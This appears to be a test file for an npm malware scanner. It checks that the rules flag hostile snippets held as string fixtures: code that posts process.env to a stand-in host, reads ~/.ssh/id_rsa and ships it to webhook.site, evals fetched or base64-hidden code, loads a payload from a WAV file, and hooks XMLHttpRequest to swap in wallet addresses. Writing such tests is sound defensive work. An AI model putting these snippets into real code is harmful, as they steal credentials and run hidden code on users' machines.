import { analyzeArtifact } from '../process/analyze-artifact';
import { npmPackage } from '../testing/archives';

const WALLETS = [
  '0x1111111111111111111111111111111111111111',
  '0x2222222222222222222222222222222222222222',
  '0x3333333333333333333333333333333333333333',
  'bc1qaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa',
  'bc1qcccccccccccccccccccccccccccccccccccccccc',
  'TXaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa',
];
const HOOK = 'const open = XMLHttpRequest.prototype.open; XMLHttpRequest.prototype.open = function () {};';
const hidden = (code: string) => Buffer.from(code).toString('base64');

async function judged(files: Record<string, string>) {
  const { verdict, findings } = await analyzeArtifact('npm', await npmPackage({ main: 'index.js' }, files));
  return [verdict, ...new Set(findings.map(({ rule }) => rule))];
}

describe('rules/code', () => {
  it.each<[title: string, code: string, judgement: string[]]>([
    ['plain code', 'module.exports = (a, b) => a + b;', ['clean']],
    [
      'secrets that are sent',
      "fetch('https://a.invalid', { method: 'POST', body: JSON.stringify(process.env) });",
      ['malicious', 'code-secret-sent'],
    ],
    [
      'a payload in a sound',
      "eval(require('fs').readFileSync(__dirname + '/ring.wav').subarray(44).toString());",
      ['malicious', 'code-asset-payload'],
    ],
    [
      'fetched code',
      "fetch('https://a.invalid').then((r) => r.text()).then((t) => eval(t));",
      ['suspicious', 'code-remote-code'],
    ],
    [
      'hidden code',
      `eval(Buffer.from('${hidden('console.log(1)')}', 'base64').toString());`,
      ['suspicious', 'code-hidden-code'],
    ],
    [
      'addresses put in place of others',
      `${HOOK} const mine = ${JSON.stringify(WALLETS)};`,
      ['malicious', 'code-wallet-hook'],
    ],
    ['a hook without addresses', HOOK, ['clean']],
    ['addresses without a hook', `module.exports = ${JSON.stringify(WALLETS)};`, ['clean']],
    [
      'credentials and a collector',
      `const key = require('fs').readFileSync(home + '/.ssh/id_rsa');
       module.exports = () => ship('https://webhook.site/0', key);`,
      ['suspicious', 'code-drop-host'],
    ],
    ['a collector alone', "module.exports = 'https://discord.com/api/webhooks/';", ['clean']],
    [
      'unreadable code that acts',
      `${Array.from({ length: 25 }, (_, n) => `var _0x${(4096 + n).toString(16)} = ${n};`).join('')} fetch('https://a.invalid');`,
      ['suspicious', 'code-obfuscated'],
    ],
  ])('%s', async (_title, code, judgement) => {
    expect(await judged({ 'index.js': code })).toEqual(judgement);
  });

  it.each([
    'lib/deep/late.js',
    'test/fixture.js',
    'vendor/x.cjs',
    'dist/index.mjs',
    'src/index.ts',
    '.hidden/x.js',
  ])('looks at %s too', async (path) => {
    const code = "fetch('https://a.invalid', { method: 'POST', body: JSON.stringify(process.env) });";

    expect(await judged({ 'index.js': '', [path]: code })).toEqual(['malicious', 'code-secret-sent']);
  });
});
